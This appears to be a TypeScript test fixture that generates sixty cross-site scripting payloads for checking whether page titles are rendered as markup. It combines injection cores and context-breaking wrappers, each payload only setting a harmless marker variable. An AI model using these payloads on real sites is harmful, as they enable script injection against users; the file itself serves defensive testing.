/** What an injected script would do: it can be seen afterwards. */
const ACT = "window.injected=1";
const cores = [
  `<script>${ACT}</script>`,
  `<img src=x onerror=${ACT}>`,
  `<svg onload=${ACT}>`,
  `<svg><script>${ACT}</script></svg>`,
  `<iframe srcdoc="<script>parent.injected=1</script>">`,
  `<body onload=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<video><source onerror=${ACT}></video>`,
  `<math><mtext><img src=x onerror=${ACT}></mtext></math>`,
  `<a href="javascript:${ACT}">go</a>`,
  `<style>@import 'javascript:${ACT}'</style>`,
  `<object data="javascript:${ACT}">`,
  `<template><img src=x onerror=${ACT}></template>`,
  `&lt;img src=x onerror=${ACT}&gt;`,
];
const wrappers: readonly ((core: string) => string)[] = [
  (core) => core,
  (core) => `">${core}`,
  (core) => `'-->${core}`,
  (core) => `</textarea></title>${core}`,
];

/** Sixty texts that run a script wherever a text is taken for markup; each fits a title. */
export const xssPayloads: readonly string[] = wrappers.flatMap((wrap) => cores.map(wrap));
